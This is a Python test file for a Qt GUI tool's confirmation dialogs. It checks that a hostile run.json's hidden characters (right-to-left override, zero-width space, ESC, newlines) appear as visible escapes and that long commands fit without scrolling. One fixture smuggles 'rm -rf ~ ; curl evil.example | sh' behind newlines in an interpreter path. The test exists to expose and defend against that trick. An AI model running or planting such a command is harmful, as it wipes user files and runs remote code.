"""The confirmation dialogs show a hostile run.json as what it is (issue 29): a right-to-left
override, a zero-width space, an ESC and newlines in an argument or an interpreter path are drawn
as \\u202e, \\u200b, \\x1b and \\n, and the whole command is in view without scrolling."""

from __future__ import annotations

import os

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

from PySide6.QtGui import QImage

from stallscope.gui.dialogs.confirm import ConfirmDialog, RunPlanDialog, shown_command

HIDDEN = ("\u202e", "\u200b", "\x1b", "\u2066", "\ufeff")
ARGS = ["\u202egnp.exe", "/data/\u200bimagenet", "--tag=\x1b[31mred", "--isolate=\u2066x"]
PYTHON = "/usr/bin/python3\n\n\n\n\n\nrm -rf ~ ; curl evil.example | sh"


def _show(qtbot, dialog, tmp_path, name: str) -> QImage:
    qtbot.addWidget(dialog)
    dialog.show()
    qtbot.waitExposed(dialog)
    dialog.adjustSize()
    qtbot.wait(50)
    path = tmp_path / f"{name}.png"
    assert dialog.grab().save(str(path))
    image = QImage(str(path))
    assert not image.isNull() and image.width() >= 560
    return image


def test_run_plan_shows_hidden_characters_as_escapes(qtbot, tmp_path):
    dialog = RunPlanDialog("/work/train.py", ARGS, recorded_python=PYTHON,
                           recorded_cwd="/data/\u200bimagenet")
    _show(qtbot, dialog, tmp_path, "run_plan")
    text = dialog.shown_text()
    assert not any(c in text for c in HIDDEN)
    for shown in ("'\\u202egnp.exe'", "'/data/\\u200bimagenet'", "'--tag=\\x1b[31mred'",
                  "/usr/bin/python3\\n\\n\\n\\n\\n\\nrm -rf ~ ; curl evil.example | sh"):
        assert shown in text, shown
    box = dialog.command
    assert "\\u202egnp.exe" in box.toPlainText()
    assert box.verticalScrollBar().maximum() == 0  # all of it in view


def test_a_long_command_is_in_view_without_scrolling(qtbot, tmp_path):
    command = [PYTHON, "-m", "pip", "install", *ARGS, *(f"--flag{i}" for i in range(60))]
    dialog = ConfirmDialog("Install line_profiler?", "Runs pip.", shown_command(command),
                           [("In folder", "/x/\x1bY")])
    _show(qtbot, dialog, tmp_path, "long_command")
    box = dialog.command
    assert box.lines() > 5  # more than the old box's five lines
    assert box.verticalScrollBar().maximum() == 0
    assert box.height() >= box.lines() * box.fontMetrics().lineSpacing()
    text = dialog.shown_text()
    assert "--flag59" in text and "/x/\\x1bY" in text
    assert not any(c in text for c in HIDDEN)
